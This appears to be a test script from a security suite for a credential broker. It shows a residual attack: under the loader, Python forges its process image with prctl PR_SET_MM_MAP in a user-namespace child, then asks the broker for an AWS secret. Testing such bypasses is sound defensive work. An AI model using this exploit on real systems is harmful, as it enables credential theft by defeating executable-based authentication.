#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# attack: forges its image, and runs nothing but the administrator's code while it does
# expects: released
# control: none
# kind: residual
# removed-by: system mode; switching user name spaces off (user.max_user_namespaces=0)
# cost: -
#
# mm_map_by_clone is refused because it runs code of its own. An interpreter needs none: it maps
# the approved program without ever running it, takes the loader, which is its own image, out of
# its memory, and has a child with the same memory claim the approved image. What is mapped to
# execute is then the approved program and the administrator's files, and the verdict on code is
# that all is well. It tells what code is there, not which of it runs.
set -euo pipefail

python=$(readlink -f /usr/bin/python3) || true
loader=$(ldconfig -p 2>/dev/null | sed -n 's/.*ld-linux-x86-64\.so\.2 .*=> //p' | head -n 1)
if ! [ -x "$python" ] || [ "$(uname -m)" != x86_64 ] || ! [ -x "$loader" ]; then
    echo "skip: there is no /usr/bin/python3 for x86-64 with its loader"
    exit 77
fi

exec env -i LD_BIND_NOW=1 "KEYCHAIN_AUTH_SOCKET=$KEYCHAIN_AUTH_SOCKET" \
    "ATTACK_VICTIM=$ATTACK_VICTIM" "$loader" "$python" -I - <<'END'
import ctypes, json, os, re, socket, struct

PRIVATE, ANONYMOUS = 2, 32
MAYMOVE_FIXED = 3
SET_MM, SET_MM_MAP = 35, 14
VM_VFORK_NEWUSER_CHLD = 0x100 | 0x4000 | 0x10000000 | 17
RDI, RSI, RDX, RCX, R8, RSP, RIP = 8, 9, 12, 14, 0, 15, 16

libc = ctypes.CDLL(None, use_errno=True)
names = "mmap mremap mprotect munmap memmove clone getcontext setcontext prctl _exit sbrk"
calls = {name: getattr(libc, name) for name in names.split()}  # no loader, no more names
for call in calls.values():
    call.restype = ctypes.c_void_p

def number(value):
    return ctypes.c_void_p(value)

def address(name):
    return ctypes.cast(calls[name], ctypes.c_void_p).value

def anonymous(size):
    return calls["mmap"](None, number(size), 3, PRIVATE | ANONYMOUS, -1, number(0))

def segments(path):
    for line in open("/proc/self/maps"):
        start, end, rights, name = re.match(r"(\w+)-(\w+) (....) \S+ \S+ \S+ *(.*)", line).groups()
        if name == path:
            yield int(start, 16), int(end, 16) - int(start, 16), rights

def leave_loader(path):
    """Its data is needed: in memory without a file. Its code isn't, once all is bound."""
    for start, size, rights in list(segments(path)):
        if "x" in rights:
            calls["munmap"](number(start), number(size))
            continue
        copy = anonymous(size)
        calls["memmove"](number(copy), number(start), number(size))
        calls["mprotect"](number(copy), number(size), 3 if "w" in rights else 1)
        calls["mremap"](number(copy), number(size), number(size), MAYMOVE_FIXED, number(start))

def claim(victim):
    stat = open("/proc/self/stat").read().rpartition(")")[2].split()
    field = lambda index: int(stat[index - 3])
    fields = [field(26), field(27), field(45), field(46), field(47), calls["sbrk"](number(0)),
              field(28), field(48), field(49), field(50), field(51), 0]
    wanted = ctypes.create_string_buffer(struct.pack("12QII", *fields, 0, victim))
    context = ctypes.create_string_buffer(4096)
    calls["getcontext"](context)
    registers = ctypes.cast(ctypes.addressof(context) + 40, ctypes.POINTER(ctypes.c_uint64))
    stack = anonymous(65536) + 32768
    top = ctypes.cast(stack - 8, ctypes.POINTER(ctypes.c_uint64))
    top[0] = address("_exit")
    for index, value in ((RDI, SET_MM), (RSI, SET_MM_MAP), (RDX, ctypes.addressof(wanted)),
                         (RCX, len(wanted.raw) - 1), (R8, 0), (RSP, stack - 8),
                         (RIP, address("prctl"))):
        registers[index] = value
    child = calls["clone"](number(address("setcontext")), number(anonymous(65536) + 65536),
                           VM_VFORK_NEWUSER_CHLD, context)
    if ctypes.c_int(child or 0).value > 0:
        os.waitpid(child, 0)

wire = socket.socket(socket.AF_UNIX)
lines = wire.makefile("rw", newline="\n")

def ask(**message):
    print(json.dumps(message), file=lines, flush=True)
    return lines.readline()

json.loads(json.dumps({}))
path = os.environ["ATTACK_VICTIM"]
victim = os.open(path, os.O_RDONLY)
calls["mmap"](None, number(4096), 5, PRIVATE, victim, number(0))
leave_loader(os.readlink("/proc/self/exe"))
claim(victim)
if os.readlink("/proc/self/exe") != path:
    os.write(1, b"skip: the image can't be claimed here\n")
    os._exit(77)
wire.connect(os.environ["KEYCHAIN_AUTH_SOCKET"])
answer = ask(type="HELLO")
answer = ask(type="REQUEST", action="read", service="aws", targets=["prize"],
             nonce=json.loads(answer)["nonce"])
os.write(1, answer.encode())
os.write(1, b"reason: " + (json.loads(answer).get("reason") or "released").encode() + b"\n")
os._exit(0)
END
